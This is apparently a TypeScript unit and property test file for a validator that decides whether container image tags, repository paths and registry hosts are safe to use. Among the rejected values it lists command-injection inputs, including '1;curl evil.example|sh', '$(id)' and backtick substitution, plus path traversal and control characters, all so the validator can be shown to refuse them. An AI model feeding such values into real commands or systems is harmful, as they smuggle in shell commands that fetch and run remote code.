import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Entry } from '../../../src/core/model';
import { parseReference, printFullReference } from '../../../src/core/reference';
import { isUsable, isUsablePlace } from '../../../src/core/usable';

const host = 'registry.example.com';
const tag = (label: string, path = 'team/api'): Entry => ({ kind: 'tag', label, image: { host, path, tag: label } });
const repository = (path: string): Entry => ({ kind: 'repository', label: path, image: { host, path } });
const digest = `sha256:${'a'.repeat(64)}`;

describe('a name that is listed', () => {
  it.each([
    ...['latest', '1.0', 'v1.2.3-alpine_3', '_', 'A.b-C', 'a'.repeat(128)].map((name) => tag(name)),
    ...['a', 'team/api', 'a.b_c__d---e/f', 'a'.repeat(255)].map(repository),
    { kind: 'group' as const, key: 'any Group', label: '$(x)' },
    { kind: 'registry' as const, key: 'r', label: 'R', host: 'my_registry.local:5000' },
  ])('can be used: $label', (entry) => {
    expect(isUsable(entry)).toBe(true);
  });

  it.each([
    ...[
      '1;curl evil.example|sh',
      '1\n',
      '1\u202e',
      '$(id)',
      '`id`',
      ' 1',
      '1 ',
      '',
      '-1',
      '.1',
      'ü',
      'a'.repeat(129),
      'a:b',
      'a@b',
      'a/b',
    ].map((name) => tag(name)),
    ...[
      '',
      'Team/api',
      'team//api',
      '/team',
      'team/',
      '../x',
      'a/./b',
      'team api',
      'team;x',
      'team\napi',
      'a'.repeat(256),
    ].map(repository),
    tag('1.0', 'team;x'),
    {
      kind: 'platform' as const,
      label: 'x',
      image: { host, path: 'a', digest: `sha256:${'A'.repeat(64)}` },
      platform: { os: 'a', architecture: 'b' },
      attachments: [],
    },
    { kind: 'registry' as const, key: 'r', label: 'R', host: 'r.example/evil' },
    { kind: 'repository' as const, label: 'x', image: { host: 'r.example\n', path: 'x' } },
  ])('cannot be used: $label', (entry) => {
    expect(isUsable(entry)).toBe(false);
  });

  it('that can be used is a reference to all who read one', () => {
    const name = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 12 }),
      fc.stringMatching(/^[a-z0-9._/:@;$()\n -]{0,12}$/),
    );
    fc.assert(
      fc.property(name, name, fc.boolean(), (path, label, byDigest) => {
        const image = { host, path, ...(byDigest ? { digest } : { tag: label }) };
        if (!isUsable({ kind: 'tag', label, image })) return;
        expect(parseReference(printFullReference(image))).toEqual(image);
      }),
      { numRuns: 5000 },
    );
  });

  it('is no place to push to where it cannot be used', () => {
    expect(isUsablePlace({ host, namespace: 'acme/team' })).toBe(true);
    expect(isUsablePlace({ host })).toBe(true);
    expect([';x', '', 'A'].map((namespace) => isUsablePlace({ host, namespace }))).toEqual([false, false, false]);
    expect(isUsablePlace({ host: 'r.example;x' })).toBe(false);
  });
});
